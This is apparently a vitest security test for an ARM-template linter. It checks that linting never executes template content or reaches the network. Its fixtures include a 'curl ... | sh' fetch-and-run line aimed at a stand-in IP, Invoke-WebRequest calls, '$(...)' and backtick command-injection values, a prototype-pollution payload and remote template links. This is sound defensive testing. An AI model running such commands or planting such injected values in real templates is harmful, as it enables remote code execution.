// SECURITY.md, held: a lint run never executes what a template contains and never touches the network (guarded in every thread).
import { spawnSync } from "node:child_process";
import { cpSync, existsSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ensureBuilt, ROOT } from "../cli/helpers.js";
import { TEMPLATE_SCHEMA, TempDir } from "../runner/helpers.js";
import { runGuarded, writeGuard, type GuardedRun } from "./guard.js";

let dir: TempDir;
let guard: string;
let log: string;
const SENTINEL = "armlint-executed-a-template";

beforeAll(() => {
  ensureBuilt();
  dir = new TempDir();
  guard = writeGuard(dir.path);
  log = dir.file("guard.log");
  const sentinel = (name: string) => dir.file(`${SENTINEL}-${name}`);
  const remote = "https://198.51.100.7/armlint-must-not-fetch";
  const script = (name: string) => `touch ${sentinel(name)}; curl -s ${remote}/x.sh | sh; node -e "require('fs').writeFileSync('${sentinel(`${name}-node`)}', '')"`;
  const template = {
    $schema: `${remote}/deploymentTemplate.json#`,
    contentVersion: "1.0.0.0",
    parameters: {
      cmd: { type: "string", defaultValue: `$(touch ${sentinel("param")})` },
      js: { type: "string", defaultValue: `require('child_process').execSync('touch ${sentinel("js")}')` },
    },
    variables: {
      shell: `[concat('$(touch ${sentinel("concat")})', '\`touch ${sentinel("backtick")}\`')]`,
      fromJson: `[json('{"a": "$(touch ${sentinel("json")})", "__proto__": {"polluted": true}}')]`,
      url: `[uri('${remote}/', 'x')]`,
      env: "[environment().resourceManager]",
    },
    resources: [
      {
        type: "Microsoft.Resources/deploymentScripts",
        apiVersion: "2023-08-01",
        name: "script-cli",
        location: "westeurope",
        kind: "AzureCLI",
        properties: { azCliVersion: "2.52.0", scriptContent: script("cli"), primaryScriptUri: `${remote}/main.sh`, supportingScriptUris: [`${remote}/more.sh`], retentionInterval: "PT1H", environmentVariables: [{ name: "X", value: "[parameters('cmd')]" }] },
      },
      {
        type: "Microsoft.Resources/deploymentScripts",
        apiVersion: "2023-08-01",
        name: "script-ps",
        location: "westeurope",
        kind: "AzurePowerShell",
        properties: { azPowerShellVersion: "10.0", scriptContent: `New-Item -Path '${sentinel("ps")}'; Invoke-WebRequest ${remote}/ps`, arguments: "[variables('shell')]", retentionInterval: "PT1H" },
      },
      { type: "Microsoft.Resources/deployments", apiVersion: "2022-09-01", name: "remote", properties: { mode: "Incremental", templateLink: { uri: `${remote}/linked.json` }, parametersLink: { uri: `${remote}/linked.parameters.json` } } },
      { type: "Microsoft.Resources/deployments", apiVersion: "2022-09-01", name: "local", properties: { mode: "Incremental", templateLink: { relativePath: "linked/local.json" } } },
      {
        type: "Microsoft.Storage/storageAccounts",
        apiVersion: "2023-01-01",
        name: "[toLower(concat('sa', uniqueString(variables('url'))))]",
        location: "westeurope",
        properties: { note: "[reference(variables('url'), '2020-01-01', 'Full').outputs]", keys: "[listKeys(resourceId('Microsoft.Storage/storageAccounts', 'x'), '2023-01-01')]", js: "[parameters('js')]", fetched: `[reference('${remote}/reference')]` },
      },
    ],
  };
  dir.write({
    "hostile/scripts.json": JSON.stringify(template, null, 2),
    "hostile/scripts.parameters.json": JSON.stringify({ $schema: "https://schema.management.azure.com/schemas/2019-04-01/deploymentParameters.json#", contentVersion: "1.0.0.0", parameters: { cmd: { value: `$(touch ${sentinel("parameters-file")})` }, js: { reference: { keyVault: { id: `${remote}/vault` }, secretName: "s" } } } }),
    "hostile/linked/local.json": JSON.stringify({ $schema: TEMPLATE_SCHEMA, contentVersion: "1.0.0.0", resources: [{ type: "Microsoft.Resources/deploymentScripts", apiVersion: "2023-08-01", name: "inner", location: "westeurope", kind: "AzureCLI", properties: { azCliVersion: "2.52.0", scriptContent: script("linked"), retentionInterval: "PT1H" } }] }),
  });
  // Every fixture too (configs, plugins, broken files, Bicep inputs): plugins run, as configured, and must not need the network either.
  cpSync(join(ROOT, "fixtures"), dir.file("fixtures"), { recursive: true });
  // A config error stops a whole run (exit 2, no report): leave out the fixture that has one.
  rmSync(dir.file("fixtures/cli/bad-config"), { recursive: true, force: true });
});
afterAll(() => {
  dir.remove();
});

function expectClean(run: GuardedRun, threads: number): void {
  expect(run.entries.filter((e) => e.kind === "denied")).toEqual([]);
  expect(new Set(run.entries.filter((e) => e.kind === "loaded").map((e) => e.thread)).size).toBeGreaterThanOrEqual(threads);
  expect(run.stderr).not.toMatch(/guard:/);
  expect(run.stdout).not.toMatch(/guard:/);
  expect([0, 1, 2]).toContain(run.code);
  for (const name of ["param", "js", "concat", "backtick", "json", "cli", "cli-node", "ps", "linked", "parameters-file"]) {
    expect(existsSync(dir.file(`${SENTINEL}-${name}`))).toBe(false);
  }
}

describe("a lint run never executes template content and never uses the network", () => {
  it("the guard works: it catches spawning and network calls, through require and ESM imports, and lets --version run", () => {
    const attempt = dir.file("attempt.mjs");
    writeFileSync(
      attempt,
      [
        'import { execFileSync } from "node:child_process";',
        'import { lookup } from "node:dns";',
        'import { createRequire } from "node:module";',
        "const require = createRequire(import.meta.url);",
        "for (const f of [() => execFileSync('true'), () => require('node:child_process').spawn('true'), () => require('node:https').get('https://198.51.100.7/'), () => lookup('example.invalid', () => {}), () => require('node:net').connect(80, '198.51.100.7')]) { try { f(); } catch {} }",
        "await fetch('https://198.51.100.7/').catch(() => undefined);",
      ].join("\n"),
    );
    const env = { ...process.env, ARMLINT_GUARD_LOG: log };
    spawnSync(process.execPath, ["--import", pathToFileURL(guard).href, attempt], { env, encoding: "utf8", timeout: 60_000 });
    const denied = readFileSync(log, "utf8").split("\n").filter((line) => line.includes('"denied"'));
    writeFileSync(log, "");
    expect(denied.map((line) => (JSON.parse(line) as { what: string }).what.replace(/\(.*$/, ""))).toEqual([
      "node:child_process.execFileSync",
      "node:child_process.spawn",
      "node:https.get",
      "node:dns.lookup",
      "node:net.connect",
      "fetch",
    ]);
    const check = runGuarded(guard, ["--version"], dir.path, log);
    expect(check.code).toBe(0);
    expect(check.entries.filter((e) => e.kind === "loaded")).toHaveLength(1);
  });

  it.each([["1"], ["2"]])("deployment scripts, remote links and code-like expressions, and every fixture (--jobs %s)", (jobs) => {
    const run = runGuarded(guard, ["--format", "json", "--jobs", jobs, "hostile", "fixtures"], dir.path, log);
    expectClean(run, jobs === "2" ? 2 : 1);
    const results = JSON.parse(run.stdout) as { filePath: string; messages: { ruleId: string }[] }[];
    const scripts = results.find((r) => r.filePath.endsWith("hostile/scripts.json"));
    expect(scripts).toBeDefined();
    expect(scripts!.messages.some((m) => m.ruleId === "armlint/internal-error")).toBe(false);
    expect(results.length).toBeGreaterThan(30);
  }, 240_000);

  it("SARIF to a file, with the cache, and merge-sarif: still nothing", () => {
    const run = runGuarded(guard, ["--format", "sarif", "--output-file", "out/report.sarif", "--cache", "hostile"], dir.path, log);
    expectClean(run, 1);
    const merge = runGuarded(guard, ["merge-sarif", "out/merged.sarif", "out/report.sarif"], dir.path, log);
    expect(merge.code).toBe(0);
    expect(merge.entries.filter((e) => e.kind === "denied")).toEqual([]);
  }, 240_000);
});
